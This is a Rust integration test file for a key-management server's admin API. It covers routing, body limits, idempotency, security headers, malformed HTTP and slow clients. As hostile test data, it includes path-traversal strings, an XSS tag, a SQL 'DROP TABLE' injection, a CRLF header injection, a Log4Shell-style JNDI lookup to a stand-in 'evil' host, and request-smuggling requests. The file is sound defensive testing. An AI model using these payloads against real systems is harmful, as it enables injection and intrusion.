//! What every route has in common: bodies, methods, paths, headers, idempotency keys, hostile text, slow clients, shutdown.

use std::{
    io::{Read as _, Write as _},
    net::TcpStream,
    sync::Arc,
    time::{Duration, Instant},
};

use rustls::{
    ClientConfig, ClientConnection, RootCertStore, StreamOwned,
    pki_types::{CertificateDer, ServerName, pem::PemObject as _},
};
use serde_json::{Value, json};

use super::{administrator, server};
use crate::harness::server::Server;

/// A TLS stream to the admin API of `server`, to write what no client would.
fn raw(server: &Server) -> StreamOwned<ClientConnection, TcpStream> {
    let mut roots = RootCertStore::empty();
    roots.add(CertificateDer::from_pem_file(server.dir().join("tls/ca.pem")).unwrap()).unwrap();
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let builder = ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions().unwrap();
    let config = Arc::new(builder.with_root_certificates(roots).with_no_client_auth());
    let socket = TcpStream::connect(server.admin_addr()).unwrap();
    socket.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    let tls = ClientConnection::new(config, ServerName::try_from("localhost").unwrap()).unwrap();
    StreamOwned::new(tls, socket)
}

/// Sends `request` as it is; what comes back until the server closes or says nothing more.
pub fn exchange(request: &[u8]) -> String {
    // Who is refused before all is sent can lose the answer together with the connection, and then asks again.
    for _ in 0..5 {
        let mut stream = raw(server());
        let sent = stream.write_all(request).and_then(|()| stream.flush());
        let mut answer = Vec::new();
        let read = stream.read_to_end(&mut answer);
        if !answer.is_empty() || (sent.is_ok() && read.is_ok()) {
            return String::from_utf8_lossy(&answer).into_owned();
        }
    }
    String::new()
}

#[test]
fn what_is_no_route_is_a_problem_too() {
    let api = administrator();
    for path in [
        "/index.html",
        "/console/other.js",
        "/v1",
        "/v2/adapters",
        "/v1/adapters/",
        "/v1//adapters",
        "/v1/adapters/x/y",
        "/v1/../etc/passwd",
        "/docs/../../etc/passwd",
    ] {
        api.get(path).problem(404, "not-found");
    }
    for path in
        ["/v1/adapters/..%2f..%2fetc%2fpasswd", "/v1/adapters/%00", "/v1/adapters/%ff", "/v1/adapters/%E2%80%AE"]
    {
        api.get(path).problem(404, "not-found");
    }
    for (method, path) in [
        ("PUT", "/v1/adapters"),
        ("DELETE", "/v1/adapters"),
        ("PATCH", "/v1/session"),
        ("POST", "/healthz"),
        ("TRACE", "/v1/server"),
    ] {
        let refused = api.send(method, path, None);
        refused.problem(405, "method-not-allowed");
        assert!(refused.header("allow").contains("GET"), "{method} {path}");
    }
}

#[test]
fn a_body_is_json_of_a_bounded_length() {
    let api = administrator();
    let root_key = api.root_key();
    let body = json!({"name": "body", "root_key": root_key}).to_string();
    for kind in ["text/plain", "application/x-www-form-urlencoded", "application/json2", "multipart/form-data"] {
        api.with("content-type", kind).send("POST", "/v1/adapters", Some(&body)).problem(415, "media-type");
    }
    api.send("POST", "/v1/adapters", None).problem(415, "media-type");
    api.send("POST", "/v1/adapters", Some("")).problem(400, "malformed");
    let padded = |length: usize| {
        let rest = length - body.len();
        format!("{}{body}", " ".repeat(rest))
    };
    api.send("POST", "/v1/adapters", Some(&padded((1 << 20) + 1))).problem(413, "too-large");
    api.with("content-type", "application/json; charset=utf-8")
        .send("POST", "/v1/adapters", Some(&padded(1 << 20)))
        .expect(201);
    let nested = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    assert!(matches!(api.send("POST", "/v1/adapters", Some(&nested)).status, 400 | 422));
    // Who is not logged in is not even listened to.
    server().stranger().send("POST", "/v1/adapters", Some(&body)).problem(401, "unauthenticated");
}

#[test]
fn a_request_with_the_same_idempotency_key_makes_one_thing() {
    let api = administrator();
    let root_key = api.root_key();
    let keyed = api.with("idempotency-key", "one thing");
    let new = json!({"name": "idempotent", "root_key": root_key});
    let first = keyed.post("/v1/adapters", &new);
    let again = keyed.post("/v1/adapters", &new);
    assert_eq!((first.expect(201), first.header("etag")), (again.expect(201), again.header("etag")));
    assert_eq!(first.header("location"), again.header("location"));
    assert_eq!(again.header("idempotency-replayed"), "true");
    assert!(first.headers.get("idempotency-replayed").is_none());
    keyed.post("/v1/adapters", &json!({"name": "idempotent 2", "root_key": root_key})).problem(422, "key-reused");
    keyed.post("/v1/identities", &new).problem(422, "invalid");
    api.post("/v1/adapters", &new).problem(409, "exists");
    // A key is of one caller, and what failed is not kept.
    let other = api.service("idempotent", &[("operator", None)]).with("idempotency-key", "one thing");
    other.post("/v1/adapters", &new).problem(409, "exists");
    other.post("/v1/adapters", &json!({"name": "idempotent 3", "root_key": root_key})).expect(201);
    for bad in ["", &"x".repeat(256)] {
        api.with("idempotency-key", bad).post("/v1/adapters", &new).problem(422, "invalid");
    }
}

#[test]
fn hostile_text_comes_back_as_it_is_and_does_nothing() {
    let api = administrator();
    let root_key = api.root_key();
    for (number, text) in [
        "<script>alert(1)</script>",
        "'; DROP TABLE adapter; --",
        "{\"role\":\"administrator\"}",
        "../../../../etc/passwd",
        "%00%0d%0aSet-Cookie: a=b",
        "${jndi:ldap://evil/x}",
        "\\\"},{\\\"kind\\\":\\\"admin\\\"",
        "ключ 鍵 🔑",
    ]
    .into_iter()
    .enumerate()
    {
        let new = json!({"name": format!("hostile {number}"), "description": text, "root_key": root_key});
        let made = api.post("/v1/adapters", &new);
        assert_eq!(made.expect(201)["description"], text);
        assert_eq!(made.header("x-content-type-options"), "nosniff");
        let name = &text[..text.char_indices().nth(39).map_or(text.len(), |(end, _)| end)].trim();
        let identity = api.post("/v1/identities", &json!({"kind": "service", "name": name}));
        assert_eq!(identity.expect(201)["name"], *name);
    }
    let audit = std::fs::read_to_string(server().dir().join("audit/audit.jsonl")).unwrap();
    assert!(
        audit.lines().all(|line| serde_json::from_str::<Value>(line).is_ok()),
        "a line of the audit log is one event"
    );
    for header in ["x-csrf-token", "cookie", "idempotency-key", "if-match", "origin"] {
        let status = api.with(header, "\"'<>{};\\").post("/v1/adapters", &json!({"name": "a"})).status;
        assert!(matches!(status, 422), "{header}: {status}");
    }
}

#[test]
fn every_answer_says_that_it_is_not_for_browsers_to_guess_at() {
    let stranger = server().stranger();
    for (path, status) in [
        ("/healthz", 200),
        ("/docs", 200),
        ("/docs/page.js", 200),
        ("/openapi.json", 200),
        ("/v1/adapters", 401),
        ("/nowhere", 404),
    ] {
        let reply = stranger.get(path);
        assert_eq!(reply.status, status, "{path}");
        assert_eq!(reply.header("x-content-type-options"), "nosniff");
        assert_eq!(reply.header("cache-control"), "no-store");
        let policy = reply.header("content-security-policy");
        assert!(policy.starts_with("default-src 'none'") && !policy.contains("unsafe"), "{policy}");
        assert!(reply.headers.get("server").is_none() && reply.headers.get("access-control-allow-origin").is_none());
    }
    let page = stranger.get("/docs").text + &stranger.get("/docs/page.js").text + &stranger.get("/docs/page.css").text;
    assert!(!page.contains("http://") && !page.contains("https://"), "nothing from elsewhere");
}

#[test]
fn the_description_names_every_route_and_how_it_can_fail() {
    let document = server().stranger().get("/openapi.json").expect(200);
    assert_eq!(document["openapi"], "3.1.0");
    let paths = document["paths"].as_object().unwrap();
    assert!(paths.len() > 6);
    for (path, item) in paths {
        for (method, operation) in item.as_object().unwrap() {
            let about = format!("{method} {path}");
            assert!(operation["summary"].is_string() && operation["tags"].is_array(), "{about}");
            assert!(operation["operationId"].is_string(), "{about}");
            if path.starts_with("/v1/") {
                for status in ["401", "403", "500", "503"] {
                    assert!(operation["responses"][status].is_object(), "{about} {status}");
                }
            }
        }
    }
    let ids: Vec<_> =
        paths.values().flat_map(|item| item.as_object().unwrap().values()).map(|one| &one["operationId"]).collect();
    assert!(
        ids.iter().all(|id| ids.iter().filter(|other| other == &id).count() == 1),
        "each has a name of its own: {ids:?}"
    );
    fn references<'a>(value: &'a Value, found: &mut Vec<&'a str>) {
        match value {
            Value::Object(members) => {
                found.extend(members.get("$ref").and_then(Value::as_str));
                members.values().for_each(|member| references(member, found));
            }
            Value::Array(items) => items.iter().for_each(|item| references(item, found)),
            _ => {}
        }
    }
    let roles = document["components"]["schemas"]["Role"]["enum"].as_array().unwrap();
    assert!(roles.contains(&json!("security-officer")), "names as they are sent: {roles:?}");
    let mut found = Vec::new();
    references(&document, &mut found);
    for reference in found {
        assert!(document.pointer(&reference[1..]).is_some(), "{reference}");
    }
}

#[test]
fn the_server_tells_about_itself_to_those_who_may_know() {
    let api = administrator();
    let about = api.get("/v1/server").expect(200);
    assert_eq!(about["kmip_listen"], json!([server().addr().to_string()]));
    assert_eq!(about["health"]["ready"], true);
    assert_eq!(about["certificate"]["thumbprint_sha1"].as_str().unwrap().len(), 59);
    let operator = api.service("server operator", &[("operator", None)]);
    operator.get("/v1/server").expect(200);
    operator.send("POST", "/v1/server/reload", None).problem(403, "forbidden");
    api.service("server scoped", &[("viewer", Some(&api.adapter("server")))])
        .get("/v1/server")
        .problem(403, "forbidden");
    api.send("POST", "/v1/server/reload", None).expect(200);
}

#[test]
fn what_is_no_http_is_refused() {
    for request in [
        &b"\x00\x01\x02\r\n\r\n"[..],
        b"GET /healthz HTTP/9.9\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"POST /v1/adapters HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
        b"POST /v1/adapters HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nnonsense\r\n",
    ] {
        let answer = exchange(request);
        assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 4"), "{answer}");
    }
    let long = format!("GET /healthz HTTP/1.1\r\nHost: a\r\nX-Long: {}\r\n\r\n", "x".repeat(100_000));
    assert!(exchange(long.as_bytes()).starts_with("HTTP/1.1 431"));
    let many = format!("GET /healthz HTTP/1.1\r\nHost: a\r\n{}\r\n", "X: y\r\n".repeat(200));
    assert!(exchange(many.as_bytes()).starts_with("HTTP/1.1 431"));
}

#[test]
fn a_client_that_never_ends_its_headers_is_cut() {
    let mut stream = raw(server());
    stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: a\r\nX-Slow: ").unwrap();
    stream.flush().unwrap();
    let start = Instant::now();
    let _ = stream.read_to_end(&mut Vec::new());
    let waited = start.elapsed();
    assert!((Duration::from_secs(20)..Duration::from_secs(50)).contains(&waited), "{waited:?}");
}

#[test]
fn connections_are_bounded_and_one_too_many_waits() {
    let folder = tempfile::tempdir().unwrap();
    let dir = folder.path().join("data");
    Server::set_up(&dir, "--hsm software --tls-key ecdsa-p256", &[]);
    let config = dir.join("keystead.toml");
    let text = std::fs::read_to_string(&config).unwrap().replace("connections = 256", "connections = 2");
    std::fs::write(&config, text).unwrap();
    let server = Server::serve(&dir);
    let held: Vec<_> = (0..2).map(|_| TcpStream::connect(server.admin_addr()).unwrap()).collect();
    let stranger = server.stranger();
    let answered = std::thread::spawn(move || stranger.get("/healthz").status);
    // It is served as soon as a place is free.
    drop(held);
    assert_eq!(answered.join().unwrap(), 200);
}

#[test]
fn a_shutdown_ends_idle_connections_at_once() {
    let server = Server::start();
    server.api().get("/v1/server").expect(200);
    let mut idle = raw(&server);
    idle.write_all(b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n").unwrap();
    let mut first = [0; 16];
    idle.read_exact(&mut first).unwrap();
    let _silent = TcpStream::connect(server.admin_addr()).unwrap();
    let start = Instant::now();
    let lines = server.stop();
    assert!(start.elapsed() < Duration::from_secs(5), "{lines:?}");
}
